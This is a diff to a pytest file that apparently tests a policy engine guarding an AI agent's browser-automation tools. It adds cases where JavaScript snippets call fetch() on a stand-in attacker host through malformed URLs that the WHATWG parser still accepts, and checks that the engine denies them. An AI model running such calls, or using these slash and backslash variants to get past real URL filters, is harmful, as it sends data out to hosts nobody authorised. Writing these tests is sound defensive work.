@@ -50,6 +50,12 @@ def _session(doc: dict[str, Any] | None = None) -> Any:
             "browser_run_code_unsafe",
             "async (page) => page.request.get('http://collect.attacker.example/r')",
         ),  # fmt: skip
+        # the WHATWG URL parser reads any run of slashes and backslashes after a web scheme
+        ("browser_evaluate", "() => fetch('http:///collect.attacker.example/3')"),
+        ("browser_evaluate", "() => fetch('https:/collect.attacker.example/1')"),
+        ("browser_evaluate", "() => fetch('http:\\\\collect.attacker.example/b')"),
+        ("browser_evaluate", "() => fetch('http:\\/\\/collect.attacker.example/e')"),
+        ("browser_evaluate", "() => fetch('HTTP:///collect.attacker.example/u')"),
     ],
 )
 def test_a_planted_host_in_code_is_denied(tool: str, code: str) -> None:
@@ -81,3 +87,12 @@ def test_without_code_params_the_code_is_not_read() -> None:
         "browser_evaluate", {"function": "() => fetch('http://collect.attacker.example/e')"}
     )
     assert (v.verdict, v.rule) == ("ask", "action.destructive_hint"), v
+
+
+@pytest.mark.parametrize(
+    "code", ["() => open('C:/Users/me/x')", "() => open('C:\\\\Users\\\\me')", "() => 'a:/b'"]
+)
+def test_a_drive_letter_or_other_scheme_with_one_slash_is_no_url(code: str) -> None:
+    from cordon.engine.code_urls import code_urls
+
+    assert code_urls(code) == []
